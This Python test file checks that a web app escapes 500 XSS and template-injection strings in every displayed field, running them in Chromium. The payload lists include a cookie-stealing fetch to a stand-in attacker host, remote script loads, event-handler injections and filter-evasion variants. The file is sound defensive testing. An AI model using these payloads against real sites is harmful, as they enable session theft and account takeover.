"""Five hundred hostile strings in every shown field of every page, in Chromium: none runs, none asks anybody for anything."""

from __future__ import annotations

import datetime as dt
import pathlib
import shutil
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import pytest

import looks
from marsad.ledger import Ledger
from marsad.model import Rejection
from marsad.web.app import create_app
from marsad.web.jobs import Job, Line

CALLS = ("hit()", "alert(1)", "window.hit=1", "top.hit=1", "fetch('//evil.example/'+document.cookie)", "import('//evil.example/x.js')", "new Image().src='//evil.example/'")
ELEMENTS = (
    "<script>{c}</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror={c}>", "<svg onload={c}>", "<svg><script>{c}</script></svg>", "<body onload={c}>",
    "<iframe src=javascript:{c}></iframe>", "<iframe srcdoc='<script>{c}</script>'></iframe>", "<a href=javascript:{c}>x</a>", "<details open ontoggle={c}>", "<video><source onerror={c}>",
    "<input autofocus onfocus={c}>", "<math><mtext><script>{c}</script></mtext></math>", "<object data=javascript:{c}>", "<embed src=javascript:{c}>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<form action=//evil.example/><button autofocus>", "<style>@import '//evil.example/x.css'</style>",
    "<div style=background:url(//evil.example/)>", "<marquee onstart={c}>", "<template><script>{c}</script></template>", "<button hx-get=//evil.example/ hx-trigger=load>", "<div hx-on:load={c}>",
)  # fmt: skip
AROUND = ("{e}", "\"'>{e}", "</script>{e}", "-->{e}<!--")
PAYLOADS = [
    *list(dict.fromkeys(a.format(e=e.format(c=c)) for c in CALLS for e in ELEMENTS for a in AROUND))[:480],
    "{{7*7}}", "{{page.desk}}", "{% raw %}", "${7*7}", "javascript:hit()", "data:text/html,<script>hit()</script>", "vbscript:hit()", "&lt;script&gt;hit()&lt;/script&gt;", "\\u003cscript\\u003ehit()",
    "%3Cscript%3Ehit()%3C/script%3E", "＜script＞hit()＜/script＞", "\u202e<script>hit()</script>", "\u0000<script>hit()</script>".replace("\u0000", "\u200b"), "'-hit()-'", "\";hit();//", "`${hit()}`",
    "]]><script>hit()</script>", "<![CDATA[<script>hit()</script>]]>", "<scr<script>ipt>hit()</scr</script>ipt>", "<SCRIPT\n>hit()</SCRIPT\t>",
]  # fmt: skip
BATCH = 125


def test_there_are_five_hundred_different_ones() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) == 500


def test_none_runs(new_page: Callable[..., Any], sample_db: pathlib.Path, tmp_path: pathlib.Path, poison: Callable[[Ledger], list[str]], monkeypatch: pytest.MonkeyPatch) -> None:
    for start in range(0, len(PAYLOADS), BATCH):
        words = " ".join(PAYLOADS[start : start + BATCH])
        copy = shutil.copy(sample_db, tmp_path / f"{start}.db")
        monkeypatch.setitem(poison.__globals__, "PAYLOAD", words)
        with Ledger(f"sqlite:///{copy}") as ledger:
            pages = [p for p in poison(ledger) if not p.startswith("/?actor")]
            ledger.rulings.rule("i_bad", "grade", words[:20], who=words[:60], reason=words)
            for payload in PAYLOADS[start : start + BATCH]:  # names of people and of their programs' tokens
                if len(payload) <= 60 and payload.strip() and ledger.accounts.get(payload.strip()) is None:
                    ledger.accounts.add(payload.strip(), "viewer", "!", by=payload)
                    ledger.accounts.act(payload, "refused", payload)
        folder = tmp_path / str(start)
        app = create_app(f"sqlite:///{copy}", store=folder / "store", sources=folder / "sources.yml", lexicon_folder=folder / "lexicon")
        job = Job("bad", "reread", words[:200], words, dt.datetime.now(dt.UTC), state="done", failure=words, reasons=[Rejection(words, words)])
        job.lines.append(Line(words, (("perpetrators", (), ({"text": words, "actor": words},)), ("time", (), ()), ("materiel", ({"text": words},), (words,)))))
        app.state.desk.jobs._jobs["bad"] = job  # as a run over files with such names leaves one
        with looks.served(app) as base:
            page, seen = new_page(), []
            page.add_init_script("addEventListener('securitypolicyviolation', e => (window.reports ??= []).push(e.blockedURI + e.violatedDirective)); window.hit = () => { window.ran = true }")
            page.on("request", lambda r, base=base, seen=seen: seen.append(r.url) if not r.url.startswith((base, "data:", "blob:")) else None)
            page.on("dialog", lambda d, seen=seen: (seen.append(d.message), d.dismiss()))
            typed = quote(words[:190])
            asked = ["/?digits=arab&lang=ar", f"/?q={typed}&box=-180,-90,180,90&type={typed}&admin1={typed}&lang=en", f"/documents?q={typed}", f"/lexicon?name={quote(words[:120])}", f"/sources/{typed}"]
            for path in [*pages, *asked, "/jobs/bad", "/ingest", "/accounts", "/account", "/lexicon", "/blind", "/blind/agreement", "/incidents/i_bad/map.geojson"]:
                answer = page.goto(base + path, wait_until="load")
                assert answer.status < 500, path
                if path.endswith("json"):
                    continue
                assert page.evaluate("window.ran === undefined && typeof window.hit === 'function'"), (path, start)
                assert page.evaluate("window.reports ?? []") == [], (path, start)
                assert page.evaluate("document.querySelectorAll('main script, main iframe, main object, main embed, main base, main meta, main link, main style, main [onerror], main [onload], main [srcdoc]').length") == 0, path
            assert seen == [], start
            page.context.close()


def test_with_the_network_cut_every_page_is_whole(new_page: Callable[..., Any], sample_db: pathlib.Path, tmp_path: pathlib.Path) -> None:
    app = create_app(f"sqlite:///{shutil.copy(sample_db, tmp_path / 'cut.db')}", store=tmp_path / "store", sources=tmp_path / "sources.yml", lexicon_folder=tmp_path / "lexicon")
    with looks.served(app) as base:
        page = new_page()
        asked: list[str] = []
        failed: list[str] = []
        page.context.route(lambda url: not url.startswith((base, "data:", "blob:")), lambda route: (asked.append(route.request.url), route.abort()))
        page.on("requestfailed", lambda r: failed.append(f"{r.url} {r.failure}"))
        for path in looks.addresses(page, base):
            page.goto(base + path, wait_until="networkidle")
        assert asked == [] and [f for f in failed if "ERR_ABORTED" not in f] == []  # what is under way when the next page is asked for is let go
